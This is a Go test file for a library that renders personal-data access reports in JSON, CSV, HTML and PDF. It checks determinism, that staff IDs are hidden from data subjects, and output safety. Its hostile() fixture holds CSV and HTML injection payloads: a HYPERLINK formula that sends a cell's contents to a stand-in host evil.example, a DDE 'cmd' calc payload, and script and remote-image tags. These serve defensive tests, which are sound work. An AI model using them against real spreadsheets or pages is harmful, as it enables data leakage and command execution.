package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

func render(t testing.TB, r *Report, f Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Render(&buf, r, f); err != nil {
		t.Fatalf("render %s: %v", f, err)
	}
	return buf.Bytes()
}

func TestRenderingsAreDeterministic(t *testing.T) {
	shuffled := fixture()
	rand.New(rand.NewPCG(3, 4)).Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
	for _, lang := range []string{"lv", "en"} {
		a, b := build(t, fixture(), fixtureOptions(lang)), build(t, shuffled, fixtureOptions(lang))
		for _, f := range Formats() {
			if !bytes.Equal(render(t, a, f), render(t, b, f)) {
				t.Errorf("%s %s: the same events in another order render differently", lang, f)
			}
		}
	}
}

func TestFormats(t *testing.T) {
	for _, f := range Formats() {
		got, err := ParseFormat(strings.ToUpper(string(f)))
		if err != nil || got != f || ContentType(f) == "" {
			t.Errorf("format %s: parsed %q (%v), content type %q", f, got, err, ContentType(f))
		}
	}
	if _, err := ParseFormat("docx"); err == nil {
		t.Error("docx is no format")
	}
	r := build(t, fixture(), fixtureOptions("lv"))
	if err := Render(&bytes.Buffer{}, r, "docx"); err == nil {
		t.Error("rendered an unknown format")
	}
	if name := Filename(r, FormatPDF); name != "access-report-C00012345-lv-"+r.Hash[:12]+".pdf" {
		t.Errorf("file name %q", name)
	}
}

// TestEmployeeNeverInSubjectReport: the staff id of whoever acted is in no
// rendering of the subject's report (the PDF is read in TestPDF), and is in
// the DPO's.
func TestEmployeeNeverInSubjectReport(t *testing.T) {
	for _, lang := range []string{"lv", "en"} {
		r := build(t, fixture(), fixtureOptions(lang))
		for _, f := range []Format{FormatJSON, FormatCSV, FormatHTML} {
			out := render(t, r, f)
			for _, staff := range []string{employee, "E-0001"} {
				if bytes.Contains(out, []byte(staff)) {
					t.Errorf("%s %s report names employee %s", lang, f, staff)
				}
			}
		}
		opt := fixtureOptions(lang)
		opt.IncludeRestricted = true
		dpo := build(t, fixture(), opt)
		for _, f := range []Format{FormatJSON, FormatCSV, FormatHTML} {
			if !bytes.Contains(render(t, dpo, f), []byte(employee)) {
				t.Errorf("%s %s: the DPO's report does not name the employee", lang, f)
			}
		}
	}
}

func TestJSON(t *testing.T) {
	r := build(t, fixture(), fixtureOptions("en"))
	out := render(t, r, FormatJSON)
	// WriteJSON appends to the encoding Build hashed: it must be what
	// encoding/json makes of the report.
	if want, err := json.Marshal(r); err != nil || !bytes.Equal(out, append(want, '\n')) {
		t.Fatalf("WriteJSON differs from json.Marshal (%v):\n%.300s\n%.300s", err, out, want)
	}
	var back Report
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatal(err)
	}
	if again := render(t, &back, FormatJSON); !bytes.Equal(again, out) {
		t.Errorf("a report read back from its JSON renders other JSON")
	}
	if h := ContentHash(&back); back.Hash != r.Hash || h != r.Hash {
		t.Errorf("the JSON's hash %s, recomputed from it %s, built %s", back.Hash, h, r.Hash)
	}
	if !slices.Equal(back.Position.Partitions, r.Position.Partitions) || !back.ComputedAt.Equal(fixtureNow) {
		t.Errorf("position %+v", back.Position)
	}
}

func TestCSV(t *testing.T) {
	for _, view := range []bool{false, true} {
		opt := fixtureOptions("lv")
		opt.IncludeRestricted = view
		r := build(t, fixture(), opt)
		out := render(t, r, FormatCSV)
		body, ok := bytes.CutPrefix(out, []byte("\ufeff"))
		if !ok {
			t.Fatal("no byte-order mark")
		}
		records, err := csv.NewReader(bytes.NewReader(body)).ReadAll() // also checks every row has the header's width
		if err != nil {
			t.Fatal(err)
		}
		if records[0][0] != labelsLV.ColSection || records[0][1] != labelsLV.ColEvent {
			t.Errorf("header %q", records[0])
		}
		facts := map[string]string{}
		var events, withheld []string
		for _, rec := range records[1:] {
			switch rec[0] {
			case csvReport:
				facts[rec[1]] = rec[2]
			case csvWithheld:
				withheld = append(withheld, rec[1])
			case csvEvent:
				events = append(events, rec[1])
			default:
				t.Errorf("row of no section %q", rec)
			}
		}
		if facts[labelsLV.HashLabel] != r.Hash || facts[labelsLV.PositionLabel] != "3:260, 7:55" || facts[labelsLV.SubjectLabel] != subject {
			t.Errorf("report facts %q", facts)
		}
		wantRows := shownInOrder
		if view {
			wantRows = []string{evSwedbank1, evRiga, evSwedbank2, evAcmeSCC, evPolice, evAgent, evAcmeAdequ, evRestricted, evLapsed, evAutomated}
		}
		if !slices.Equal(events, wantRows) {
			t.Errorf("event rows %v, want %v", events, wantRows)
		}
		wantWithheld := 2 // the restriction's basis and the identity window
		if view {
			wantWithheld = 1 // the DPO sees every event
		}
		if len(withheld) != wantWithheld || !view && !strings.Contains(withheld[0], policeBasis) {
			t.Errorf("withheld rows %q", withheld)
		}
		riga := records[slices.IndexFunc(records, func(rec []string) bool { return rec[1] == evRiga })]
		if riga[13] != rigaName || riga[17] != labelsLV.IdentMSISDN || riga[19] != "7" || riga[20] != "55" {
			t.Errorf("row of %s: %q", evRiga, riga)
		}
	}
}

// hostile is a disclosure whose recipient and reason come from outside
// and try to run as a spreadsheet formula or as HTML.
func hostile() Event {
	return Event{ID: "e99-hostile", Kind: kindTransfer, OccurredAt: at(10, 1, 9), RecordedAt: at(10, 1, 9), SourceSystem: "billing",
		ActorType: "service_account", ActorID: "@svc", DataCategories: []string{"billing"}, Purpose: "service_provision", LegalBasis: "contract",
		RecipientID: "-rcp", RecipientName: `=HYPERLINK("https://evil.example/?x="&A1,"Swedbank")<script>alert(1)</script><img src="https://evil.example/p.png">`,
		RecipientCategory: "other_third_party", RecipientCountry: "LV",
		Attributes: map[string]string{"note": "+cmd|' /C calc'!A0"}, Partition: 1, Offset: 9}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	r := build(t, append(fixture(), hostile()), fixtureOptions("en"))
	body := bytes.TrimPrefix(render(t, r, FormatCSV), []byte("\ufeff"))
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell a spreadsheet would run: %q", cell)
			}
		}
		if rec[1] == "e99-hostile" {
			found = true
			if rec[13] != "'"+hostile().RecipientName || rec[12] != "'-rcp" || rec[7] != "'@svc" {
				t.Errorf("hostile row %q", rec)
			}
		}
	}
	if !found {
		t.Error("the hostile row is missing")
	}
}

// TestHTMLIsSelfContained parses the page: no script, nothing loaded from
// elsewhere, every value escaped.
func TestHTMLIsSelfContained(t *testing.T) {
	for _, lang := range []string{"lv", "en"} {
		r := build(t, append(fixture(), hostile()), fixtureOptions(lang))
		page := render(t, r, FormatHTML)
		z := html.NewTokenizer(bytes.NewReader(page))
		var text strings.Builder
		inStyle := false
		for {
			tt := z.Next()
			if tt == html.ErrorToken {
				break
			}
			tok := z.Token()
			switch tt {
			case html.StartTagToken, html.SelfClosingTagToken:
				switch tok.Data {
				case "script", "link", "img", "iframe", "object", "embed", "base", "form", "audio", "video", "source":
					t.Errorf("%s: <%s> in a self-contained page", lang, tok.Data)
				case "html":
					if attr(tok, "lang") != lang {
						t.Errorf("%s: html lang=%q", lang, attr(tok, "lang"))
					}
				case "style":
					inStyle = true
				}
				for _, a := range tok.Attr {
					switch a.Key {
					case "src", "href", "srcset", "action", "poster", "data", "background":
						t.Errorf("%s: <%s %s=%q> refers to a resource", lang, tok.Data, a.Key, a.Val)
					case "style":
						t.Errorf("%s: inline style attribute %q", lang, a.Val)
					}
					if strings.HasPrefix(a.Key, "on") {
						t.Errorf("%s: event handler %s", lang, a.Key)
					}
				}
			case html.EndTagToken:
				if tok.Data == "style" {
					inStyle = false
				}
			case html.TextToken:
				if inStyle && (strings.Contains(tok.Data, "url(") || strings.Contains(tok.Data, "@import")) {
					t.Errorf("%s: the style sheet loads from elsewhere", lang)
				}
				text.WriteString(tok.Data)
			}
		}
		for _, want := range []string{hostile().RecipientName, r.Hash, "3:260, 7:55", rigaName, acmeName, swedName, debtName} {
			if !strings.Contains(text.String(), want) {
				t.Errorf("%s: the page's text lacks %q", lang, want)
			}
		}
	}
}

func attr(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// htmlText is the text of a page, without its markup.
func htmlText(t testing.TB, page []byte) string {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for n := range doc.Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
	}
	return b.String()
}

// requireTool finds a program the test needs. scripts/test installs them
// and sets LINEAGE_BROWSER_TESTS=1: then a missing one fails the test;
// elsewhere it skips it.
func requireTool(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err == nil {
		return path
	}
	if os.Getenv("LINEAGE_BROWSER_TESTS") == "1" {
		t.Fatalf("%s is not installed (LINEAGE_BROWSER_TESTS=1 requires it)", name)
	}
	t.Skipf("%s is not installed; set LINEAGE_BROWSER_TESTS=1 (scripts/test does, after installing it) to require this test", name)
	return ""
}

// TestHTMLInChromium loads the page from a file in headless Chromium with
// every host name unresolvable, and reads back the DOM it built.
func TestHTMLInChromium(t *testing.T) {
	chromium := requireTool(t, "chromium")
	r := build(t, fixture(), fixtureOptions("lv"))
	dir := t.TempDir()
	file := filepath.Join(dir, "report.html")
	if err := os.WriteFile(file, render(t, r, FormatHTML), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--no-first-run", "--user-data-dir="+filepath.Join(dir, "profile"), `--host-resolver-rules=MAP * ~NOTFOUND`,
		"--dump-dom", "file://"+file)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	dom, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium: %v\n%s", err, stderr.Bytes())
	}
	text := htmlText(t, dom)
	for _, want := range []string{rigaName, acmeName, swedName, debtName, labelsLV.HeadRecipients, r.Hash} {
		if !strings.Contains(text, want) {
			t.Errorf("Chromium's DOM lacks %q", want)
		}
	}
	if !bytes.Contains(dom, []byte(`<html lang="lv">`)) {
		t.Errorf("DOM root: %.200s", dom)
	}
}

// TestPDF reads the PDF back with pdftotext: every recipient's legal name
// with its Latvian letters, the hash and the position on every page, and
// no employee in the subject's report.
func TestPDF(t *testing.T) {
	pdftotext := requireTool(t, "pdftotext")
	for _, lang := range []string{"lv", "en"} {
		r := build(t, fixture(), fixtureOptions(lang))
		pdf := render(t, r, FormatPDF)
		if !bytes.HasPrefix(pdf, []byte("%PDF-")) {
			t.Fatalf("%s: not a PDF: %.20q", lang, pdf)
		}
		file := filepath.Join(t.TempDir(), "report.pdf")
		if err := os.WriteFile(file, pdf, 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(pdftotext, "-enc", "UTF-8", file, "-").Output()
		if err != nil {
			t.Fatalf("pdftotext: %v", err)
		}
		text := string(out)
		for _, want := range []string{rigaName, acmeName, swedName, debtName, accessRequest} {
			if !strings.Contains(text, want) {
				t.Errorf("%s: the PDF's text lacks %q", lang, want)
			}
		}
		for _, staff := range []string{employee, "E-0001"} {
			if strings.Contains(text, staff) {
				t.Errorf("%s: the subject's PDF names employee %s", lang, staff)
			}
		}
		l, _ := labelsFor(lang)
		if strings.Contains(text, policeName) || !strings.Contains(text, l.HeadRecipients) {
			t.Errorf("%s: restricted recipient shown, or headings missing", lang)
		}
		pages := strings.Split(strings.TrimRight(text, "\f"), "\f")
		if len(pages) < 2 {
			t.Fatalf("%s: %d pages", lang, len(pages))
		}
		for i, page := range pages {
			if !strings.Contains(page, r.Hash) || !strings.Contains(page, "3:260, 7:55") || strings.Contains(page, "{nb}") {
				t.Errorf("%s: page %d lacks the hash, the position or the page count", lang, i+1)
			}
		}
	}
}
